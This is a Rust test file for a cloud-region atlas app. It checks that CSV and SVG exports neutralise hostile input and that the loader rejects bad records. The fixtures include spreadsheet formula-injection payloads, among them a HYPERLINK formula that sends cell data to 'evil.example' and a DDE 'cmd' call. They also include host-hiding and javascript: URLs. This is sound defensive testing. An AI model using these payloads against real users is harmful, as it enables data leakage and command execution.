//! The hostile-input corpus, natively: a dataset, a gazetteer and links written by an
//! attacker, and what each export and the loader must do with them. Each test is
//! named after what a person would have seen before its fix. The browser half is
//! `tests/e2e/hostile.test.mjs` and `tests/e2e/download.test.mjs`.
#![cfg(not(target_arch = "wasm32"))]

use cloud_atlas::core::changes::{Changes, Window};
use cloud_atlas::core::coverage::Coverage;
use cloud_atlas::core::filter::{select, Catalog};
use cloud_atlas::core::geo::{Rect, Shapes};
use cloud_atlas::core::lang::Lang;
use cloud_atlas::core::load::parse_dataset;
use cloud_atlas::core::promises::Promises;
use cloud_atlas::core::query::{from_query, is_record_id, is_version, parse_pairs, Filters};
use cloud_atlas::core::reach::People;
use cloud_atlas::present::changes_export::{changes_csv, changes_svg};
use cloud_atlas::present::coverage_export::{coverage_csv, coverage_svg};
use cloud_atlas::present::export::{
    events_csv, map_svg, regions_csv, timeline_svg, xml_escape, Provenance,
};
use cloud_atlas::present::promises_export::{promises_csv, promises_svg};
use serde_json::{json, Value};

const ATLAS: &str = include_str!("../public/data/atlas.json");
const PEOPLE: &str = include_str!("../public/geo/people.json");
const WORLD: &str = include_str!("../public/geo/world.json");

/// Text a spreadsheet would run, behind every separator a locale may split on.
const FORMULAS: [&str; 6] = [
    "x;=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "Riyadh,=1+1",
    "tab\t@SUM(A1)",
    "line\r\n-2+3",
    "=cmd|' /C calc'!A0",
    "quote\";+1",
];

fn doc() -> Value {
    serde_json::from_str(ATLAS).unwrap()
}

/// The shipped dataset with formula text in every kind of text field an export writes.
fn formula_doc() -> Value {
    let mut d = doc();
    let mut k = 0;
    let mut next = || {
        k += 1;
        FORMULAS[k % FORMULAS.len()].to_string()
    };
    d["license"] = json!(next());
    d["providers"][0]["name"] = json!(next());
    for r in d["regions"].as_array_mut().unwrap() {
        r["name"] = json!(next());
        r["note"] = json!(next());
        r["country"] = json!(next());
        if r["city"].is_string() {
            r["city"] = json!(next());
        }
    }
    for e in d["events"].as_array_mut().unwrap() {
        e["title"] = json!(next());
        e["note"] = json!(next());
        if e["country"].is_string() {
            e["country"] = json!(next());
        }
    }
    for s in d["sources"].as_array_mut().unwrap() {
        s["publisher"] = json!(next());
    }
    d
}

fn catalog(d: &Value, lang: Lang) -> Catalog {
    let loaded = parse_dataset(&d.to_string()).unwrap();
    Catalog::new(loaded.dataset).with_lang(lang)
}

fn prov(cat: &Catalog) -> Provenance {
    Provenance {
        permalink: "https://host/atlas/?q=%3D1%3B%3D2&d=v1".into(),
        version: cat.data.version.clone(),
        license: cat.data.license.clone(),
        title: "x;=HYPERLINK(\"http://evil.example\")".into(),
        accessed: "2026-12-03".into(),
    }
}

/// Every CSV the app writes, for the whole shipped selection.
fn every_csv(cat: &Catalog, people: &People) -> Vec<(&'static str, String)> {
    let all = Filters::default();
    let sel = select(cat, &all);
    let p = prov(cat);
    let mut cov = Coverage::build(cat, &sel, people, None);
    let reference = hostile_reference();
    cov.against(
        &reference,
        people,
        &cloud_atlas::core::coverage::home_countries(&cat.data),
    );
    let ch = Changes::build(cat, &sel, Window::of(cat, &all));
    let pr = Promises::build(cat, &sel);
    vec![
        ("regions", regions_csv(cat, &sel, &p)),
        ("events", events_csv(cat, &sel, &p)),
        (
            "coverage",
            coverage_csv(cat, people, &cov, Some(&reference), &p),
        ),
        ("changes", changes_csv(cat, &ch, &p)),
        ("promises", promises_csv(cat, &pr, &p)),
    ]
}

/// The shipped reference file with every region code a formula (codes carry no
/// spaces, as record ids), so its ids reach the coverage CSV as formulas would.
fn hostile_reference() -> cloud_atlas::core::reference::Reference {
    let mut d: Value = serde_json::from_str(include_str!("../public/data/reference.json")).unwrap();
    for (k, r) in d["regions"].as_array_mut().unwrap().iter_mut().enumerate() {
        let code = ["=1+2", "@SUM(A1)", "+cmd|'/C'!A0", "-2+3"][k % 4].to_string() + &k.to_string();
        r["id"] = json!(format!("{}:{code}", r["provider"].as_str().unwrap()));
        r["code"] = json!(code);
    }
    let loaded = cloud_atlas::core::reference::parse_reference(&d.to_string()).unwrap();
    assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
    loaded.reference
}

/// A piece a reader split out of a line, as a spreadsheet would read it: past any
/// quotes and spaces. It may start with a trigger only when it is a number
/// (a negative longitude) — the neutralised form starts with an apostrophe.
fn runs_as_formula(piece: &str) -> bool {
    let p = piece.trim_start_matches(['"', ' ']);
    let Some(first) = p.chars().next() else {
        return false;
    };
    let number = p.trim_end_matches('"').parse::<f64>().is_ok();
    matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n') && !number
}

/// Symptom: a region named `x;=HYPERLINK(…)` opened in Excel with a German, French or
/// Spanish locale (list separator `;`) became a live formula in a cell of its own.
#[test]
fn a_name_with_a_semicolon_and_a_formula_never_becomes_a_formula_in_any_spreadsheet_locale() {
    let people: People = serde_json::from_str(PEOPLE).unwrap();
    let mut hostile_people = people.clone();
    for (k, (_, names)) in hostile_people.names.iter_mut().enumerate() {
        names.0 = FORMULAS[k % FORMULAS.len()].into();
    }
    let d = formula_doc();
    for lang in [Lang::En, Lang::Zh] {
        let cat = catalog(&d, lang);
        for (name, text) in every_csv(&cat, &hostile_people) {
            // Whatever a reader splits on: the line ends (a naive reader), then , ; TAB.
            for line in text.split(['\r', '\n']) {
                for sep in [',', ';', '\t'] {
                    for piece in line.split(sep) {
                        assert!(
                            !runs_as_formula(piece),
                            "{name} CSV ({lang:?}), split on {sep:?}: piece {piece:?} of line {line:?}"
                        );
                    }
                }
            }
            // And a conformant reader still reads every row back.
            let body = text.strip_prefix('\u{FEFF}').unwrap();
            for r in csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(body.as_bytes())
                .records()
            {
                r.unwrap_or_else(|e| panic!("{name} CSV does not parse: {e}"));
            }
        }
    }
}

#[test]
fn a_formula_cell_reads_back_with_its_text_and_one_apostrophe() {
    let mut d = doc();
    d["regions"][0]["note"] = json!("a;=1");
    let cat = catalog(&d, Lang::En);
    let sel = select(&cat, &Filters::default());
    let text = regions_csv(&cat, &sel, &prov(&cat));
    assert!(text.contains("\"a;'=1\""), "quoted, the piece neutralised");
}

fn strict_xml(svg: &str, what: &str) {
    roxmltree::Document::parse(svg).unwrap_or_else(|e| panic!("{what} is not XML: {e}"));
}

/// Symptom: a search from a link (or a name) with a control character gave an SVG
/// that no program could open, and the PNG button did nothing at all.
#[test]
fn an_svg_with_control_characters_in_its_text_still_parses() {
    let nasty: String = (0u32..0x20)
        .chain([0x7F, 0x85, 0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE])
        .filter_map(char::from_u32)
        .collect();
    strict_xml(
        &format!("<t>{}</t>", xml_escape(&nasty)),
        "escaped controls",
    );
    let footer = vec![
        format!("search {nasty} <b>&amp;"),
        "# ]]> --> <!--".into(),
        "x;=HYPERLINK(\"a\")".into(),
    ];
    let cat = catalog(&formula_doc(), Lang::En);
    let all = Filters::default();
    let sel = select(&cat, &all);
    let shapes: Shapes = serde_json::from_str(WORLD).unwrap();
    let people: People = serde_json::from_str(PEOPLE).unwrap();
    let frame = Rect {
        x: 0.0,
        y: 0.0,
        w: shapes.width,
        h: shapes.height,
    };
    let cov = Coverage::build(&cat, &sel, &people, None);
    let ch = Changes::build(&cat, &sel, Window::of(&cat, &all));
    let pr = Promises::build(&cat, &sel);
    for (what, svg) in [
        ("map", map_svg(&cat, &sel, &shapes, frame, None, &footer)),
        ("timeline", timeline_svg(&cat, &sel, &footer)),
        ("coverage", coverage_svg(&cat, &cov, &shapes, None, &footer)),
        ("changes", changes_svg(&cat, &ch, &shapes, &footer)),
        ("promises", promises_svg(&cat, &pr, &footer)),
    ] {
        strict_xml(&svg, what);
    }
}

/// Symptom: a dataset with a control character in a region name or event title
/// loaded, and every export of it carried the character.
#[test]
fn control_characters_and_non_characters_in_any_text_field_skip_the_record_naming_the_field() {
    for (list, field, value) in [
        ("regions", "name", "Riyadh\u{1}"),
        ("regions", "note", "bell \u{7}"),
        ("regions", "city", "C1 \u{85}"),
        ("events", "title", "\u{FFFE}"),
        ("events", "note", "nul \u{0}"),
        ("sources", "publisher", "\u{1B}[31mred"),
    ] {
        let mut d = doc();
        d[list][0][field] = json!(value);
        let loaded = parse_dataset(&d.to_string()).unwrap();
        let reasons: Vec<String> = loaded.skipped.iter().map(|s| s.to_string()).collect();
        assert!(
            reasons
                .iter()
                .any(|r| r.contains(field) && r.contains("control character or non-character")),
            "{list}.{field}: {reasons:?}"
        );
    }
    // A tab, line ends and emoji (a surrogate pair in JSON) are text.
    let mut d = doc();
    d["regions"][0]["note"] = json!("a\tb\nc\r\n 🌏");
    let raw = d.to_string().replace("🌏", "\\ud83c\\udf0f");
    assert!(parse_dataset(&raw).unwrap().skipped.is_empty());
    // A lone surrogate cannot be text at all.
    let mut d = doc();
    d["regions"][0]["name"] = json!("LONE");
    let raw = d.to_string().replace("LONE", "\\ud800");
    assert!(!parse_dataset(&raw).unwrap().skipped.is_empty());
    // In the header: the dataset is refused, saying where.
    let mut d = doc();
    d["providers"][0]["name"] = json!("Alibaba\u{8}");
    let err = parse_dataset(&d.to_string()).unwrap_err().to_string();
    assert!(err.contains("provider's name"), "{err}");
}

/// Symptom: a dataset version with a space or a slash loaded, and then every
/// permalink's `d=` was thrown away by the URL codec and downloads got odd names.
#[test]
fn a_dataset_version_no_link_can_carry_refuses_the_dataset() {
    for bad in ["2026 11", "../../x", "", &"9".repeat(33), "v1;=1"] {
        let mut d = doc();
        d["version"] = json!(bad);
        let err = parse_dataset(&d.to_string()).unwrap_err().to_string();
        assert!(err.contains("version"), "{bad:?}: {err}");
        // The codec refuses the same.
        let (f, issues) = from_query(&parse_pairs(&format!("d={}", urlish(bad))));
        assert!(f.d.is_none() && (bad.is_empty() || !issues.is_empty()));
    }
    let version = doc()["version"].as_str().unwrap().to_string();
    assert!(is_version(&version));
}

fn urlish(s: &str) -> String {
    cloud_atlas::core::query::encode(s)
}

/// Symptom: a record whose id had a space loaded and showed, but its share link,
/// feed entry and Back/Forward did not open it.
#[test]
fn a_record_id_no_link_can_carry_is_skipped_with_the_reason() {
    for bad in ["alibaba: space", "名称", &"a".repeat(101)] {
        let mut d = doc();
        d["regions"][0]["id"] = json!(bad);
        d["events"][0]["id"] = json!(bad);
        let loaded = parse_dataset(&d.to_string()).unwrap();
        let reasons: Vec<String> = loaded.skipped.iter().map(|s| s.to_string()).collect();
        assert!(
            reasons
                .iter()
                .filter(|r| r.contains("no link could name it"))
                .count()
                >= 2,
            "{bad:?}: {reasons:?}"
        );
        assert!(!is_record_id(bad));
    }
    // Every id that loads is one `sel=` takes back.
    let cat = catalog(&doc(), Lang::En);
    for id in cat
        .data
        .regions
        .iter()
        .map(|r| &r.id)
        .chain(cat.data.events.iter().map(|e| &e.id))
    {
        let (f, issues) = from_query(&parse_pairs(&format!("sel={}", urlish(id))));
        assert_eq!(f.sel.as_deref(), Some(id.as_str()), "{issues:?}");
    }
}

/// Symptom: a source link showing "Alibaba Cloud" went to another site
/// (`https://alibabacloud.com@evil.example/`).
#[test]
fn a_source_url_that_hides_its_host_is_skipped_and_every_link_shows_its_host() {
    for bad in [
        "https://alibabacloud.com@evil.example/",
        "https://user:pw@evil.example/",
        "https:///path",
        "https://evil.example\\@alibabacloud.com/",
        "https://exa mple.com/",
        "http://xn--80ak6aa92e.com:99999/",
        "HTTPS://",
        "javascript:alert(1)//https://",
        "data:text/html,<script>",
    ] {
        let mut d = doc();
        d["sources"][0]["url"] = json!(bad);
        let loaded = parse_dataset(&d.to_string()).unwrap();
        assert!(
            loaded
                .skipped
                .iter()
                .any(|s| s.what == "source" && s.reason.contains("plain host")),
            "{bad}"
        );
    }
    let mut d = doc();
    d["sources"][0]["url"] = json!("HTTPS://Www.Example.com:8443/a?b#c");
    let loaded = parse_dataset(&d.to_string()).unwrap();
    assert!(loaded.skipped.is_empty());
    let cat = Catalog::new(loaded.dataset);
    for s in &cat.data.sources {
        assert!(!s.host().is_empty(), "{}", s.url);
    }
    // A region whose first source is named by a title or publisher other than its host.
    let r = cat
        .data
        .regions
        .iter()
        .position(|r| {
            let s = cat.data.source(&r.sources[0]).unwrap();
            let label = s.title.as_deref().or(s.publisher.as_deref()).unwrap_or("");
            !label.is_empty()
                && !label.eq_ignore_ascii_case(s.host().trim_start_matches("www."))
                && !label.eq_ignore_ascii_case(s.host())
        })
        .unwrap();
    let (_, body) = cloud_atlas::present::markup::detail::record(
        &cat,
        cloud_atlas::core::filter::Record::Region(r),
    );
    let host = cat
        .data
        .source(&cat.data.regions[r].sources[0])
        .unwrap()
        .host();
    assert!(
        body.contains(&format!("<span class=\"source__host\">{host}</span>")),
        "{body}"
    );
}

/// Symptom: a region claiming four billion zones made the head-to-head totals wrong
/// (and panicked a debug build and the pre-render).
#[test]
fn absurd_numbers_are_skipped_and_totals_never_overflow() {
    for (list, path, value, why) in [
        ("regions", "zones", json!(u32::MAX), "zones"),
        ("events", "amount_usd", json!(1e300), "amount_usd"),
    ] {
        let mut d = doc();
        d[list][0][path] = value;
        let loaded = parse_dataset(&d.to_string()).unwrap();
        assert!(
            loaded.skipped.iter().any(|s| s.reason.contains(why)),
            "{list}.{path}: {:?}",
            loaded.skipped
        );
    }
    // At the bound, the totals still add up without wrapping.
    let mut d = doc();
    for r in d["regions"].as_array_mut().unwrap() {
        r["zones"] = json!(cloud_atlas::core::load::MAX_ZONES);
    }
    let cat = catalog(&d, Lang::En);
    // Every provider, the one not compared by default included.
    let all = Filters {
        providers: cat.data.providers.iter().map(|p| p.id.clone()).collect(),
        ..Filters::default()
    };
    let sel = select(&cat, &all);
    let stats = cloud_atlas::core::aggregate::compare(&cat, &sel, None);
    let max = cloud_atlas::core::load::MAX_ZONES * cat.data.regions.len() as u32;
    assert!(stats.values().all(|s| s.zones <= max && s.zones > 0));
}

/// Symptom: a dataset of thousands of promises each linked to a launch took
/// quadratic time in the parse (every link scanned every region).
#[test]
fn thousands_of_promise_links_load() {
    let mut d = doc();
    let provider = d["providers"][0]["id"].as_str().unwrap().to_string();
    let area = d["regions"][0]["area"].clone();
    let iso = d["regions"][0]["iso2"].clone();
    let source = d["sources"][0]["id"].clone();
    let regions = d["regions"].as_array_mut().unwrap();
    for i in 0..5_000 {
        regions.push(json!({
            "id": format!("{provider}:synthetic-{i}"), "provider": provider, "name": "R",
            "country": "C", "iso2": iso, "area": area, "lat": 1.0, "lon": 1.0,
            "opened": "2024-06", "status": "live", "confidence": "high", "sources": [source],
        }));
    }
    let events = d["events"].as_array_mut().unwrap();
    for i in 0..5_000 {
        events.push(json!({
            "id": format!("synthetic-promise-{i}"), "provider": provider, "date": "2024-01",
            "kind": "announcement", "title": "P", "confidence": "high", "sources": [source],
            "promise": "region", "delivered_by": [format!("{provider}:synthetic-{i}")],
        }));
    }
    let loaded = parse_dataset(&d.to_string()).unwrap();
    assert!(loaded.skipped.is_empty(), "{:?}", &loaded.skipped[..1]);
}

/// Symptom: a link with thousands of junk parameters listed every one of them.
/// The core keeps them all (the notice folds them, `NoticeList`); parsing stays linear.
#[test]
fn a_link_with_twenty_thousand_parameters_parses() {
    let q: String = (0..20_000).map(|i| format!("junk{i}=%ZZ%{i}&")).collect();
    let (f, issues) = from_query(&parse_pairs(&q));
    assert_eq!(issues.len(), 20_000);
    assert_eq!(f, Filters::default());
    let (_, issues) = from_query(&parse_pairs(&format!(
        "from={}&to=99999999999999999999&sel={}&q={}",
        "9".repeat(400),
        "%E2%80%AE".repeat(50),
        "%00".repeat(5_000)
    )));
    assert!(issues.len() >= 3, "{issues:?}");
}
